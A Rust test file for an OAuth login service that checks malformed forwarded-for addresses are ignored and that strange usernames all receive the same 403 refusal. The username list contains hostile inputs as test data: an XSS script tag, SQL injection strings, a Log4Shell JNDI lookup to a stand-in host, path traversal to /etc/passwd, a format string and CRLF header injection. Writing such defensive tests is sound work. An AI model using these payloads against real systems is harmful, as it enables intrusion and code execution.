//! Logins that are well formed but for one value nobody should send: the value counts for nothing, or for an ordinary guess.

use std::collections::HashSet;

use futures_util::future::join_all;
use serde_json::json;

use super::wire::Expected::Ours;
use super::wire::{SECRET, exchange, judge, kind, post};
use super::{ANA, furnished};
use crate::deployment::{AUDIENCE, Application, Deployment, Engine, PASSWORD};

/// What is no address: never used, never an error.
const ADDRESSES: [&[u8]; 34] = [
    b"",
    b" ",
    b",",
    b"localhost",
    b"unknown",
    b"_hidden",
    b"192.0.2.1, 192.0.2.2",
    b"192.0.2.1,",
    b"192.0.2.1 192.0.2.2",
    b"192.0.2.1:443",
    b"[2001:db8::1]",
    b"[2001:db8::1]:443",
    b"192.0.2.1/32",
    b"2001:db8::/32",
    b"fe80::1%eth0",
    b"192.0.2",
    b"192.0.2.1.1",
    b"192.0.2.256",
    b"192.0.2.-1",
    b"192.0.2.01",
    b"0x7f.0.0.1",
    b"2130706433",
    b"0300.0250.0.1",
    b"::ffff:192.0.2.1.1",
    b"2001:db8::1::2",
    b":::",
    b"12345::",
    b"for=192.0.2.1",
    b"\"192.0.2.1\"",
    b"<192.0.2.1>",
    b"192.0.2.1\t\t192.0.2.2",
    b"\xff\xfe",
    b"\xef\xbc\x91\xef\xbc\x92.0.2.1",
    b"' OR 1=1 --",
];

/// Identifiers nobody has, in characters that are none to the eye or change what the eye sees.
const IDENTIFIERS: [&str; 20] = [
    "\u{202e}moc.elpmaxe@ana",
    "a\u{200b}na@example.com",
    "\u{feff}bob@example.com",
    "\u{2066}ana\u{2069}@example.com",
    "\u{1f511}@example.com",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}@example.com",
    "an\u{430}@example.com",
    "ana@ex\u{e0061}ample.com",
    "e\u{301}\u{301}\u{301}\u{301}@example.com",
    "\u{fdfa}@example.com",
    "\u{0130}@example.com",
    "<script>alert(1)</script>",
    "' OR '1'='1",
    "${jndi:ldap://evil.example/x}",
    "../../etc/passwd",
    "%00",
    "%s%s%n",
    "a\r\nSet-Cookie: x=y",
    "\u{1b}[2J",
    "\u{10ffff}",
];

fn login(application: &Application, username: &str, password: &str, header: &[u8]) -> Vec<u8> {
    let body = json!({
        "grant_type": "password", "username": username, "password": password, "audience": AUDIENCE,
        "client_id": application.client_id, "client_secret": application.client_secret,
    });
    let message = post(
        "/oauth/token",
        "Content-Type: application/json\r\n",
        body.to_string(),
    );
    let (line, rest) =
        message.split_at(message.iter().position(|byte| *byte == b'\n').unwrap() + 1);
    [line, header, rest].concat()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_that_is_none_is_never_used() {
    let deployment = Deployment::new(Engine::Sqlite);
    let (node, application) = furnished(&deployment).await;
    let used = |labels: &str| labels.contains("decision=\"used\"");
    let before = node
        .counted("portcullis_source_decisions_total", used)
        .await;
    let line = |address: &[u8]| [b"auth0-forwarded-for: ", address, b"\r\n"].concat();
    let mut headers: Vec<Vec<u8>> = ADDRESSES.iter().map(|address| line(address)).collect();
    headers.push(line(b"192.0.2.1").repeat(2));
    headers.push(line("192.0.2.1,".repeat(1_000).as_bytes()));

    let sent = headers.iter().map(|header| async {
        let heard = exchange(node.address(), &login(&application, ANA, PASSWORD, header)).await;
        let shown = String::from_utf8_lossy(header).into_owned();
        assert!(
            heard.starts_with(b"HTTP/1.1 200"),
            "{shown}: {}",
            String::from_utf8_lossy(&heard)
        );
    });
    join_all(sent).await;
    assert_eq!(
        node.counted("portcullis_source_decisions_total", used)
            .await,
        before
    );

    let right = exchange(
        node.address(),
        &login(&application, ANA, PASSWORD, &line(b"192.0.2.1")),
    )
    .await;
    assert!(right.starts_with(b"HTTP/1.1 200"));
    assert_eq!(
        node.counted("portcullis_source_decisions_total", used)
            .await,
        before + 1,
        "an address is"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_odd_identifier_is_an_ordinary_wrong_guess() {
    let deployment = Deployment::new(Engine::Sqlite);
    let (node, application) = furnished(&deployment).await;
    let (node, application) = (&node, &application);
    let sent = IDENTIFIERS.iter().map(|identifier| async move {
        let guess = kind(
            *identifier,
            login(application, identifier, SECRET, b""),
            Ours(403),
        );
        let heard = exchange(node.address(), &guess.bytes).await;
        assert_eq!(judge(&guess, &heard), Ok(()), "{identifier:?}");
        let text = String::from_utf8(heard).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        assert!(
            !head.to_ascii_lowercase().contains("set-cookie"),
            "{identifier:?}"
        );
        body.to_owned()
    });
    let told: HashSet<String> = join_all(sent).await.into_iter().collect();
    assert_eq!(told.len(), 1, "all are told the same: {told:?}");
    assert_eq!(
        node.login(application, ANA, PASSWORD, "192.0.2.1").await,
        Some(200)
    );
}
